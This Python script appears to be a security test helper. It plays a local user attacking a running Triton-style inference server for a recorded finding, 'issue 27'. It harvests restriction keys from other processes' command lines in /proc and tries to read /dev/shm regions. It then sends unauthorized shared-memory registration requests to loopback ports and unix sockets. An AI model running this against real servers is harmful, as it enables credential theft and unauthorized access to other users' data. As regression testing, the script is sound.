"""A local user attacking a running engines.serving (the finding of issue 27): run as a script, stdlib only
(`python -I -S -c <this file's text> TARGETS_JSON`), as another user when the tests can switch user.

TARGETS_JSON: {"ports": [TCP ports on loopback], "unix": [socket paths], "regions": [shared-memory region
names of the server's Python backend]}: what the test found listening or mapped in the serving processes.
The attacker adds what any local user reads: every tritonserver's command line (the restriction keys on it)
and /dev/shm. It then tries, and prints as JSON lines {"target", "key", "outcome"}:
- to read each region in /dev/shm (outcome "read" is a breach);
- the shared-memory registration of issue 27 (POST /v2/systemsharedmemory/region/steal/register naming a
  region) on every port and socket, without a key and with each key it read (outcome 200 is a breach).
"""

from __future__ import annotations

import http.client
import json
import os
import shutil
import socket
import subprocess
import sys

REGISTER = "/v2/systemsharedmemory/region/steal/register"


def keys_on_command_lines() -> list[tuple[str, str]]:
    """(header, value) of every restriction key on a tritonserver command line any user can read."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm") as f:
                if f.read().strip() != "tritonserver":
                    continue
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for arg in args:
            if arg.startswith(("--http-restricted-api=", "--grpc-restricted-protocol=")) and ":" in arg:
                name, _, value = arg.split(":", 1)[1].partition("=")
                found.append((name, value))
    return sorted(set(found))


class UnixConnection(http.client.HTTPConnection):
    def __init__(self, path: str):
        super().__init__("localhost", timeout=10)
        self.unix_path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(10)
        self.sock.connect(self.unix_path)


def register(conn: http.client.HTTPConnection, region: str, key) -> str:
    body = json.dumps({"key": region, "offset": 0, "byte_size": 1048576})
    headers = {"Content-Type": "application/json"}
    if key:
        headers[key[0]] = key[1]
    try:
        conn.request("POST", REGISTER, body=body, headers=headers)
        return str(conn.getresponse().status)
    except (OSError, http.client.HTTPException) as e:
        return type(e).__name__
    finally:
        conn.close()


def main(targets: dict) -> None:
    regions = list(targets["regions"]) or ["triton_python_backend_shm_region_none"]
    for name in regions:
        try:
            with open(f"/dev/shm/{name}", "rb") as f:
                outcome = "read" if f.read(16) is not None else "empty"
        except OSError as e:
            outcome = type(e).__name__
        print(json.dumps({"target": f"/dev/shm/{name}", "key": None, "outcome": outcome}))
    keys = [None, *keys_on_command_lines()]
    for key in keys:
        shown = key and key[0]
        for port in targets["ports"]:
            outcome = register(http.client.HTTPConnection("127.0.0.1", port, timeout=10), regions[0], key)
            print(json.dumps({"target": f"127.0.0.1:{port}", "key": shown, "outcome": outcome}))
        for path in targets["unix"]:
            outcome = register(UnixConnection(path), regions[0], key)
            print(json.dumps({"target": path, "key": shown, "outcome": outcome}))


def python_for(uid: int) -> str | None:
    """An interpreter user `uid` can run (ours may sit in a folder only its owner can open), else None."""
    for candidate in (sys.executable, getattr(sys, "_base_executable", None), "/usr/bin/python3"):
        if candidate and shutil.which(candidate):
            try:
                ok = subprocess.run(
                    [candidate, "-I", "-S", "-c", "pass"],
                    user=uid,
                    group=uid,
                    extra_groups=[],
                    capture_output=True,
                    cwd="/",
                )
            except OSError:  # it cannot even start it
                continue
            if ok.returncode == 0:
                return candidate
    return None


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
